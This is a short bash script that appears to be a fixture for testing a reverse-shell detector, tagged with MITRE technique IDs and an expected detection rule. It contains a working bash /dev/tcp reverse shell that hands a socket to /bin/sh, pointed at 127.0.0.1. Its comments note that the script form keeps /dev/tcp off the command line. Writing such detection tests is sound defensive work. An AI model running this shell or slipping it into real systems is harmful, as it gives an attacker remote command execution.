#!/bin/bash
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell; T1095 Non-Application Layer Protocol
# reproduces: the bash /dev/tcp reverse shell with a spare descriptor (`exec 196<>/dev/tcp/HOST/PORT; sh <&196 >&196 2>&196`, PayloadsAllTheThings), written inside a script so no command line names /dev/tcp
# expect: reverse-shell-socket-stdio ^(da)?sh$
# exec-borne: yes
#
# bash opens the TCP connection itself; a new sh gets it as stdin,
# stdout and stderr. The listener sends its commands, then `exit`.
set -u

c2_host=127.0.0.1
c2_port=${BW_ATTACK_LISTEN_PORT:?}

connect_back() {
	exec 3<>"/dev/tcp/$c2_host/$c2_port" || return 1
	exec /bin/sh <&3 >&3 2>&3
}

# in a subshell, so this script carries on (and cleans up) afterwards
( connect_back )
